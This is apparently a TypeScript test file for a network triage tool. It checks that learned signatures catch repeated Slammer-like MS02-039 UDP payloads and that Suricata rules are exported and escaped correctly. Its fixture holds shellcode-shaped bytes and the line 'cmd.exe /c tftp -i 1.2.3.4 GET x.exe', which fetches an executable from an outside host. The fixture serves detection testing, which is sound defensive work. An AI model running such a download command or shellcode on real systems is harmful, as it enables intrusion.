import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { Counters } from '../../src/core/index.ts';
import { defaultCatalogue } from '../../src/sandbox/index.ts';
import { ProtectedNetworks, Triage, escapeContent, exportSuricataRules, type LearnedSignature } from '../../src/triage/index.ts';
import { parseSuricataRule } from './suricata-rule-syntax.ts';
import { testSession } from './triage-sessions.ts';

// attacker-code-shaped bytes: a NOP sled, call/pop GetPC, PEB access
const shellcode = Buffer.concat([Buffer.alloc(40, 0x90), Buffer.from('e8000000005d64a130000000' + '8b400c8b701cad8b4008', 'hex'), Buffer.from('cmd.exe /c tftp -i 1.2.3.4 GET x.exe', 'latin1')]);
const slammerLike = (sender: string) =>
  testSession({ proto: 'udp', client: sender, server: '192.0.2.10', serverPort: 1434, turns: [['to_server', Buffer.concat([Buffer.from([0x04]), Buffer.alloc(96, 0x01), shellcode])]] });

describe('learned signatures', () => {
  it('a proven payload is flagged at once on its next copy, without replay, carrying the signature id', () => {
    const triage = new Triage({ catalogue: defaultCatalogue(), protectedNetworks: ProtectedNetworks.everyReceiver() });
    const first = triage.offer(slammerLike('198.51.100.1'));
    assert.equal(first.action, 'queued');
    const job = triage.next()!;
    const signature = triage.learn(job, { level: 'compromised', vulnerability: 'MS02-039', behaviour: 'sends copies of itself to UDP 1434' })!;
    assert.ok(signature.content && signature.content.bytes.length >= 16);
    const again = triage.offer(slammerLike('203.0.113.50'));
    assert.equal(again.action, 'matched');
    assert.equal(again.action === 'matched' && again.job.signature?.signatureId, signature.id);
    assert.equal(again.action === 'matched' && again.job.signature?.matchedBy, 'payload_key');
    assert.equal(triage.queued, 0, 'nothing queued for replay');
    assert.equal(triage.stats()['triage.signature_hits'], 1);
    assert.equal(triage.learn(job.payloadKey, { level: 'compromised', vulnerability: 'MS02-039' })?.revision, 2, 'learning again revises');
  });

  it('a variant carrying the learned content pattern matches by content', () => {
    const triage = new Triage({ catalogue: defaultCatalogue(), protectedNetworks: ProtectedNetworks.everyReceiver() });
    triage.offer(slammerLike('198.51.100.1'));
    triage.learn(triage.next()!, { level: 'compromised', vulnerability: 'MS02-039' });
    const variant = testSession({ proto: 'udp', client: '198.51.100.2', server: '192.0.2.10', serverPort: 1434, turns: [['to_server', Buffer.concat([Buffer.from([0x04]), Buffer.alloc(90, 0x02), shellcode])]] });
    const decision = triage.offer(variant);
    assert.equal(decision.action === 'matched' && decision.job.signature?.matchedBy, 'content');
  });
});

describe('Suricata export', () => {
  const signature = (overrides: Partial<LearnedSignature> = {}): LearnedSignature => ({
    id: 1_800_000,
    revision: 2,
    payloadKey: 'ab'.repeat(16),
    serviceKind: 'ms-sql-m',
    proto: 'udp',
    port: 1434,
    content: { bytes: Buffer.from('\x04\x01"x;y\\z|:ok ', 'latin1'), offset: 0, source: 'shellcode' },
    message: 'crashtest learned: MS02-039 "compromised"; a ms-sql-m dummy',
    facts: { level: 'compromised', vulnerability: 'MS02-039' },
    learnedSeconds: 0,
    ...overrides,
  });

  it('writes rules a Suricata parser accepts: header, escaped content, msg, sid/rev', () => {
    const text = exportSuricataRules([signature(), signature({ id: 1_800_001, proto: 'tcp', port: null, revision: 1 })], { destination: ['10.0.0.0/8', '192.168.0.0/16'] });
    const lines = text.trimEnd().split('\n');
    assert.equal(lines.length, 2);
    const [udp, tcp] = lines.map(parseSuricataRule);
    assert.equal(udp!.action, 'alert');
    assert.equal(udp!.proto, 'udp');
    assert.equal(udp!.destination, '[10.0.0.0/8,192.168.0.0/16]');
    assert.equal(udp!.destinationPort, '1434');
    assert.deepEqual(udp!.contentBytes, [signature().content!.bytes]);
    assert.equal(udp!.options.get('sid'), '1800000');
    assert.equal(udp!.options.get('rev'), '2');
    assert.match(udp!.options.get('msg')!, /MS02-039/);
    assert.equal(tcp!.destinationPort, 'any', 'dynamic ports: any');
    assert.equal(tcp!.options.get('flow'), 'to_server,established');
  });

  it('escapes reserved characters in content as hex and skips signatures without content', () => {
    assert.equal(escapeContent(Buffer.from('a"b;c\\d|e:f\x00\x01g', 'latin1')), 'a|22|b|3B|c|5C|d|7C|e|3A|f|00 01|g');
    assert.equal(exportSuricataRules([signature({ content: null })]), '');
  });

  it('the parser used here rejects malformed rules (so passing it means something)', () => {
    assert.throws(() => parseSuricataRule('alert udp any any -> any 1434 (msg:"x"; content:"|0G|"; sid:1; rev:1;)'));
    assert.throws(() => parseSuricataRule('alert udp any any -> any 1434 (msg:"x"; content:"a;b"; sid:1; rev:1;)'));
    assert.throws(() => parseSuricataRule('alert udp any any any 1434 (msg:"x"; sid:1; rev:1;)'));
    assert.throws(() => parseSuricataRule('alert udp any any -> any 1434 (msg:"x"; content:"a";)'), /sid/);
  });

  it('counts learned signatures in the triage counters', () => {
    const counters = new Counters();
    const triage = new Triage({ catalogue: defaultCatalogue(), protectedNetworks: ProtectedNetworks.everyReceiver(), counters });
    triage.offer(slammerLike('198.51.100.1'));
    triage.learn(triage.next()!, { level: 'exploited', behaviour: 'overflow reached' });
    assert.equal(counters.get('triage.signatures.learned'), 1);
    const rules = exportSuricataRules(triage.learnedSignatures(), { destination: '$HOME_NET' });
    assert.equal(parseSuricataRule(rules.trim()).destination, '$HOME_NET');
  });
});
